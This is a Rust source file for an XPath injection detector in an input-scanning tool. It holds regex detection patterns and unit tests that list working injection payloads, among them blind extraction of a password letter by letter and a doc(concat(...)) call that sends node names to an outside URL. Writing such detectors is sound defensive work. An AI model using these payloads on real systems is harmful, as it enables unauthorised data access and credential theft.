//! XPath conditions (XPath 1.0) behind a quote or bracket that the value closes.

use std::sync::LazyLock;

use regex::bytes::Regex;

use super::{Detector, Hit, Kind, Subject, Tokens};
use crate::catalogue::DetectorInfo;
use crate::pattern;

pub(super) const DETECTOR: Detector = Detector { info: &INFO, wants, look };

const INFO: DetectorInfo = DetectorInfo {
    name: "xpath_injection",
    what: "a value that closes a quote or bracket of an XPath expression and goes on with axes, functions or node tests",
    why: "a query over an XML document then answers with nodes that the caller may not see, passwords included",
    example: "x' or count(//user)>0 or 'a'='b",
};

/// What closes the application's part.
const BREAK: &str = r#"(?:['"]\s*\]?|\]|\))\s*(?:or\b|and\b|\||=|<|>|!=|\[|/|,)\s*(?:not\s*\(\s*)?"#;
/// What only XPath has: functions over nodes, axes, node tests, absolute paths in a condition.
const XPATH: &str = r#"(?:(?:count|string-length|substring(?:-before|-after)?|starts-with|contains|name|local-name|namespace-uri|normalize-space|translate|boolean|position|last|text|doc|concat|string-join|codepoints-to-string|unparsed-text)\s*\(\s*(?:/|\.|@|\*|//|\)|'|"|name\(|[a-z-]+::|\w+\[)|(?:ancestor|child|descendant|following|parent|preceding|self|attribute)(?:-or-self|-sibling)?::|//?(?:\*|\w+)(?:/(?:\*|\w+))*(?:\[|/(?:text|node|comment)\(\)|/@|\s*$|\s*\|)|(?:text|node|comment)\(\))"#;

static BROKEN: LazyLock<Regex> = LazyLock::new(|| pattern(&format!("(?i){BREAK}{XPATH}")));
/// Functions that read other documents, or that are used to read a document letter by letter.
static BLIND: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?i)(?:^|['"\])\s])(?:substring|string-length|name|count)\s*\(\s*(?:name\s*\(\s*)?(?:/{1,2}(?:\*|\w+)(?:\[|/|\)|\*)|(?:parent|child|self|ancestor)::).{0,80}[=<>]|\bdoc\s*\(\s*(?:concat\s*\(|['"]https?:)"#,
    )
});

fn wants(subject: &Subject<'_>) -> bool {
    subject.tokens.any(Tokens::XPATH)
        && matches!(subject.kind, Kind::Path | Kind::Parameter | Kind::Json | Kind::Cookie | Kind::Text)
}

fn look(subject: &Subject<'_>) -> Option<Hit> {
    let found = BROKEN.find(subject.bytes).filter(|found| is_open(subject.bytes, found.start()));
    let hit = match found {
        Some(found) => Hit::at(&found, 0.88, "condition of XPath behind a closed quote"),
        None => Hit::at(&BLIND.find(subject.bytes)?, 0.82, "XPath that reads a document piece by piece"),
    };
    let mentioned = subject.is_mentioned(&hit.range);
    Some(if mentioned { Hit { confidence: 0.5, ..hit } } else { hit })
}

/// Whether the quote or bracket at `at` closes something that the value did not open.
fn is_open(bytes: &[u8], at: usize) -> bool {
    let before = bytes.get(..at).unwrap_or_default();
    let count = |wanted: u8| before.iter().filter(|byte| **byte == wanted).count();
    match bytes.get(at) {
        Some(quote @ (b'\'' | b'"')) => count(*quote) % 2 == 0,
        Some(b']') => count(b'[') <= count(b']'),
        _ => count(b'(') <= count(b')'),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::examples::{must_fire, must_not_fire};

    #[test]
    fn expressions_that_are_broken_out_of_are_found() {
        must_fire(
            &DETECTOR,
            Kind::Parameter,
            &[
                "x' or count(//user)>0 or 'a'='b",
                "x'] | //user/*[contains(*,'",
                "' or string-length(name(/*[1]))=4 or 'a'='b",
                "'] | //password | //x['",
                "' or substring(//user[1]/password,1,1)='a' or 'x'='y",
                "1' and name(parent::node())='users",
                "x' or ancestor::node()[1]='",
                "x' or starts-with(name(/*),'a') or '",
                "') or contains(//secret/text(),'a') or ('",
                "count(/*)=1 and doc(concat('http://x/',name(/*)))",
            ],
        );
    }

    #[test]
    fn selectors_and_texts_are_let_pass() {
        must_not_fire(
            &DETECTOR,
            Kind::Json,
            &[
                "/html/body/div[1]/a[@class='x']",
                "//div[contains(@class,'price')]/text()",
                "//user[name='alice' and contains(role,'a')]",
                "//input[@id=\"q\"]/following-sibling::button",
                "count(//item)",
                "use //a[starts-with(@href,'/')] to find inner links",
                "it's a text() node, isn't it?",
            ],
        );
    }
}
